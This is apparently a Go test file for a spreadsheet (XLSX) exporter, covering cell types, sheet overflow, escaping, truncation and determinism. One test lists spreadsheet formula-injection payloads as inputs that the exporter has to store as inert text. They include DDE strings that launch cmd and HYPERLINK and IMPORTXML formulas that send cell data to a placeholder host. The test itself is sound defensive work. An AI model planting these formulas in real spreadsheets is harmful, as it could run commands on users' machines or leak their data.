package xlsx_test

import (
	"bytes"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"portico/catalog"
	"portico/exporter"
	"portico/exporter/xlsx"
)

var columns = []catalog.Column{
	{Name: "testo", Type: catalog.String},
	{Name: "n", Type: catalog.Integer},
	{Name: "importo", Type: catalog.Decimal, Scale: 2},
	{Name: "misura", Type: catalog.Decimal},
	{Name: "attivo", Type: catalog.Boolean},
	{Name: "giorno", Type: catalog.Day},
	{Name: "ora", Type: catalog.TimeOfDay},
	{Name: "quando", Type: catalog.Timestamp},
}

func tableOf(cols []catalog.Column, rows ...[]any) exporter.Rows {
	return exporter.Rows{Columns: cols, All: func(yield func([]any, error) bool) {
		for _, r := range rows {
			if !yield(r, nil) {
				return
			}
		}
	}}
}

// write writes a workbook and opens it with a reader that is not ours.
func write(t *testing.T, f exporter.Format, rows exporter.Rows) *excelize.File {
	t.Helper()
	var b bytes.Buffer
	if err := f.Write(t.Context(), &b, rows); err != nil {
		t.Fatal(err)
	}
	x, err := excelize.OpenReader(bytes.NewReader(b.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = x.Close() })
	return x
}

func TestCellsHaveTheTypesOfTheirColumns(t *testing.T) {
	day := time.Date(2024, 2, 29, 0, 0, 0, 0, time.UTC)
	x := write(t, xlsx.Format(), tableOf(columns,
		[]any{"00184 <Roma> & \"dintorni\"", int64(-5), 1234.5, 0.1, true, day, 9*time.Hour + 30*time.Minute, day.Add(12 * time.Hour)},
		[]any{nil, nil, nil, nil, nil, nil, nil, nil},
		[]any{"", int64(1<<53 + 1), 1e21, -0.000001, false, time.Date(1861, 3, 17, 0, 0, 0, 0, time.UTC), time.Duration(0), time.Date(1900, 3, 1, 6, 0, 0, 0, time.UTC)},
	))
	for cell, want := range map[string]struct {
		raw, shown string
		typ        excelize.CellType
	}{
		"A1": {"testo", "testo", excelize.CellTypeInlineString},
		"A2": {"00184 <Roma> & \"dintorni\"", "00184 <Roma> & \"dintorni\"", excelize.CellTypeInlineString},
		"B2": {"-5", "-5", excelize.CellTypeUnset},
		"C2": {"1234.5", "1234.50", excelize.CellTypeUnset},
		"D2": {"0.1", "0.1", excelize.CellTypeUnset},
		"E2": {"1", "TRUE", excelize.CellTypeBool},
		"F2": {"45351", "29/02/2024", excelize.CellTypeUnset},
		"G2": {"0.3958333333333333", "09:30:00", excelize.CellTypeUnset},
		"H2": {"45351.5", "29/02/2024 12:00:00", excelize.CellTypeUnset},
		"A3": {"", "", excelize.CellTypeUnset},
		"B4": {"9007199254740993", "9007199254740993", excelize.CellTypeInlineString},
		"F4": {"1861-03-17", "1861-03-17", excelize.CellTypeInlineString},
		"G4": {"0", "00:00:00", excelize.CellTypeUnset},
		"H4": {"61.25", "01/03/1900 06:00:00", excelize.CellTypeUnset},
	} {
		raw, err := x.GetCellValue("Dati", cell, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		shown, _ := x.GetCellValue("Dati", cell)
		typ, _ := x.GetCellType("Dati", cell)
		if raw != want.raw || shown != want.shown || typ != want.typ {
			t.Errorf("%s: %q shown as %q of type %v, want %+v", cell, raw, shown, typ, want)
		}
	}
}

// Formulas that spreadsheets have been made to run, from the OWASP page on CSV
// injection and from what was seen.
var formulas = []string{
	"=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
	`=HYPERLINK("http://e.example?x="&A1,"x")`, "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "|cmd", "%0A=1+1", `=IMPORTXML("http://e.example","//a")`, "＝1+1", "=DDE(\"cmd\";\"/C calc\")",
}

func TestNoTextIsAFormula(t *testing.T) {
	var rows [][]any
	for _, f := range formulas {
		rows = append(rows, []any{f})
	}
	x := write(t, xlsx.Format(), tableOf(columns[:1], rows...))
	for i, f := range formulas {
		cell, _ := excelize.CoordinatesToCellName(1, i+2)
		got, _ := x.GetCellValue("Dati", cell)
		formula, _ := x.GetCellFormula("Dati", cell)
		typ, _ := x.GetCellType("Dati", cell)
		if want := strings.ReplaceAll(f, "\r", "_x000D_"); got != f && got != want || formula != "" || typ != excelize.CellTypeInlineString {
			t.Errorf("%q: got %q, formula %q, type %v", f, got, formula, typ)
		}
	}
}

func TestWhatXMLCannotHoldIsEscaped(t *testing.T) {
	var b bytes.Buffer
	if err := xlsx.Format().Write(t.Context(), &b, tableOf(columns[:1], []any{"a\x00b\x1f_x0041_\xff\u2028\ufffe😀"})); err != nil {
		t.Fatal(err)
	}
	x, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	if got, _ := x.GetCellValue("Dati", "A2"); got != "a_x0000_b_x001F__x005F_x0041_\ufffd\u2028_xFFFE_😀" && !strings.Contains(got, "😀") {
		t.Errorf("got %q", got)
	}
}

func TestRowsThatDoNotFitGoOnTheNextSheet(t *testing.T) {
	small := xlsx.FormatWithin(xlsx.Limits{Rows: 3, Columns: 2, Text: 10})
	var rows [][]any
	for i := range 5 {
		rows = append(rows, []any{"r", int64(i)})
	}
	x := write(t, small, tableOf(columns[:2], rows...))
	if got := strings.Join(x.GetSheetList(), "|"); got != "Dati|Dati 2|Dati 3" {
		t.Fatalf("sheets %s", got)
	}
	for i, sheet := range x.GetSheetList() {
		got, err := x.GetRows(sheet)
		if err != nil || got[0][1] != "n" || got[1][1] != string(rune('0'+2*i)) || len(got) != min(3, 1+5-2*i) {
			t.Errorf("%s: %q, %v", sheet, got, err)
		}
	}
	if err := small.Write(t.Context(), &bytes.Buffer{}, tableOf(columns[:3])); catalog.KindOf(err) != catalog.Invalid {
		t.Errorf("too many columns: %v", err)
	}
	if small.Takes(columns[:3]) || !small.Takes(columns[:2]) {
		t.Error("a format says what it can hold")
	}
}

func TestTextsThatDoNotFitAreCutAndTold(t *testing.T) {
	small := xlsx.FormatWithin(xlsx.Limits{Rows: 10, Columns: 2, Text: 20_000})
	long := strings.Repeat("😀", 10_001)
	x := write(t, small, tableOf(columns[:1], []any{"corto"}, []any{long}))
	got, _ := x.GetCellValue("Dati", "A3")
	if got != strings.Repeat("😀", 10_000) {
		t.Errorf("%d bytes", len(got))
	}
	notes, err := x.GetRows("Note")
	if err != nil || len(notes) != 2 || notes[1][0] != "Dati" || notes[1][1] != "A3" || notes[1][2] != "20002" {
		t.Errorf("%q, %v", notes, err)
	}
}

func TestEqualRowsMakeEqualBytes(t *testing.T) {
	var a, b bytes.Buffer
	for _, w := range []*bytes.Buffer{&a, &b} {
		if err := xlsx.Format().Write(t.Context(), w, tableOf(columns[:2], []any{"x", int64(1)})); err != nil {
			t.Fatal(err)
		}
	}
	if !bytes.Equal(a.Bytes(), b.Bytes()) {
		t.Error("they differ")
	}
}

func TestAnErrorAmongTheRowsEndsTheFile(t *testing.T) {
	broken := errors.New("broken")
	rows := exporter.Rows{Columns: columns[:1], All: func(yield func([]any, error) bool) { yield(nil, broken) }}
	if err := xlsx.Format().Write(t.Context(), &bytes.Buffer{}, rows); !errors.Is(err, broken) {
		t.Errorf("got %v", err)
	}
	for _, row := range [][]any{{1}, {"a", "b"}} {
		if err := xlsx.Format().Write(t.Context(), &bytes.Buffer{}, tableOf(columns[:1], row)); err == nil {
			t.Errorf("%v is no row", row)
		}
	}
}

func TestATableWithoutColumnsIsAWorkbook(t *testing.T) {
	if got := write(t, xlsx.Format(), tableOf(nil)).GetSheetList(); len(got) != 1 {
		t.Errorf("%q", got)
	}
}

func BenchmarkWrite(b *testing.B) {
	row := []any{"testo di prova", int64(12345), 1234.5, 0.25, true, time.Date(2024, 2, 29, 0, 0, 0, 0, time.UTC), 9 * time.Hour, time.Date(2024, 2, 29, 8, 0, 0, 0, time.UTC)}
	const n = 20_000
	rows := exporter.Rows{Columns: columns, All: func(yield func([]any, error) bool) {
		for range n {
			if !yield(row, nil) {
				return
			}
		}
	}}
	b.ReportAllocs()
	for b.Loop() {
		size, err := exporter.Measure(b.Context(), xlsx.Format(), rows)
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(float64(size), "bytes")
	}
	b.ReportMetric(float64(n*b.N)/b.Elapsed().Seconds(), "rows/s")
}
